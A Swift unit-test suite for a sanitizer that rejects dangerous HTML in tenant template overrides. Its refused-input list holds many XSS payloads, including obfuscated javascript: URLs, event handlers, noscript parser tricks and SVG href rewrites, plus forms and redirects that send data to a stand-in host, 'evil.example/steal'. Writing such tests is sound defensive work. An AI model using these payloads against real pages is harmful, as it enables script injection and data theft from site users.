@testable import GatehouseWeb
import Testing

/// Tenant HTML is checked with an HTML5 parser: what a browser would treat as script or another
/// document is refused with its line, whatever the spelling.
@Suite("Web: HTML policy of template overrides")
struct HTMLOverridePolicyTests {
    static let refused: [(String, String)] = [
        ("<p>x</p>\n<script>alert(1)</script>", "<script>"),
        ("<p>x</p>\n<SCRIPT nonce=\"{{csp_nonce}}\">alert(1)</SCRIPT>", "<script>"),
        ("<svg><script>alert(1)</script></svg>", "<script>"),
        ("<img src=x onerror=alert(1)>", "event-handler"),
        ("<body ONLOAD=\"x()\">", "event-handler"),
        ("<a href=\"javascript:alert(1)\">x</a>", "javascript:"),
        ("<a href=\" jav&#x09;ascript:alert(1)\">x</a>", "javascript:"),
        ("<a href=\"&#106;avascript:alert(1)\">x</a>", "javascript:"),
        ("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "data:"),
        ("<a href=\"{{x}}:alert(1)\">x</a>", "scheme from a variable"),
        ("<a href=\"java{{#x}}{{/x}}script:alert(1)\">x</a>", "javascript:"),
        ("<base href=\"https://evil.example/\">", "<base>"),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "http-equiv"),
        ("<iframe src=\"/t/other/account\"></iframe>", "<iframe>"),
        ("<object data=\"x\"></object>", "<object>"),
        ("<embed src=\"x\">", "<embed>"),
        ("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "<link>"),
        ("<link rel=\"preload\" href=\"{{static_base}}/x.css\">", "<link>"),
        ("<form action=\"https://evil.example/steal\" method=\"post\"></form>", "<form>"),
        ("<form action=\"//evil.example/steal\"></form>", "<form>"),
        ("<button formaction=\"https://evil.example\">x</button>", "formaction"),
        ("<iframe srcdoc=\"x\"></iframe>", "srcdoc"),
        ("<{{tag}} href=\"x\">", "tag name"),
        ("<a {{attribute}}=\"alert(1)\">x</a>", "attribute name"),
        ("<a {{#x}}onclick{{/x}}=\"alert(1)\">x</a>", "event-handler"),
        ("<a o{{#x}}{{/x}}nclick=\"alert(1)\">x</a>", "event-handler"),
        ("<scr{{#x}}{{/x}}ipt>alert(1)</script>", "tag name"),
        ("<p style=\"background:url(javascript:alert(1))\">x</p>", "javascript:"),
        ("<style>@import url(https://evil.example/x.css);</style>", "@import"),
        ("<svg><foreignObject><p>x</p></foreignObject></svg>", "<foreignobject>"),
        // Parser differentials and URL normalisation (review findings of 2026-12-05).
        ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "event-handler"),
        ("<noscript><!-- </noscript><img src=x onerror=alert(1)> --></noscript>", "event-handler"),
        ("<NoScript><style></NOSCRIPT><a href=\"javascript:alert(1)\">x</a></style></noscript>", "javascript:"),
        ("<noembed>x</noembed>", "<noembed>"),
        ("<xmp>x</xmp>", "<xmp>"),
        ("<form action=\"\\\\evil.example/steal\"></form>", "<form>"),
        ("<form action=\"/\\evil.example/steal\"></form>", "<form>"),
        ("<link rel=\"stylesheet\" href=\"/static/../admin/tenants\">", "<link>"),
        ("<link rel=\"stylesheet\" href=\"{{static_base}}/%2e%2e/admin\">", "<link>"),
        ("<svg><a><animate attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>", "<animate>"),
        ("<svg><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/></svg>", "<set>"),
        (String(repeating: "<q>", count: 20_000), "HTML elements"),
        (String(repeating: "<div>", count: 300), "nested more than 256"),
    ]

    @Test("refused constructs, each with a reason", arguments: refused)
    func refuses(_ source: String, _ reason: String) {
        let problems = HTMLOverridePolicy.problems(in: source)
        #expect(problems.contains { $0.reason.contains(reason) }, "\(source): \(problems)")
    }

    @Test("the line of the offending tag or attribute is reported")
    func lines() {
        let problems = HTMLOverridePolicy.problems(in: "<p>\n{{#a}}\nok\n{{/a}}</p>\n<img\n  src=x\n  onerror=\"y()\">")
        #expect(problems.map(\.line) == [7], "\(problems)")
    }

    @Test("ordinary markup, styles, links and the page's own form pass")
    func allows() {
        let source = """
            {{> _head}}
            <main class="card {{#wide}}wide{{/wide}}"><h1 style="color: #333">{{title}}</h1>
            <a href="{{base_path}}/account">Account</a> <a href="https://example.com/help?x=1">Help</a>
            <img src="{{static_base}}/logo.svg" alt="">
            <link rel="stylesheet" href="{{static_base}}/gatehouse.css">
            <form method="post" action="{{action}}"><input type="hidden" name="csrf" value="{{csrf}}"><button>Go</button></form>
            <form method="post" action=""></form>
            <input type="checkbox" required{{^a}} autofocus{{/a}}{{#b}} checked{{/b}}>
            <style>.card { color: red; background: url(/static/x.png) }</style>
            </main>{{> _foot}}
            """
        #expect(HTMLOverridePolicy.problems(in: source).isEmpty, "\(HTMLOverridePolicy.problems(in: source))")
    }
}
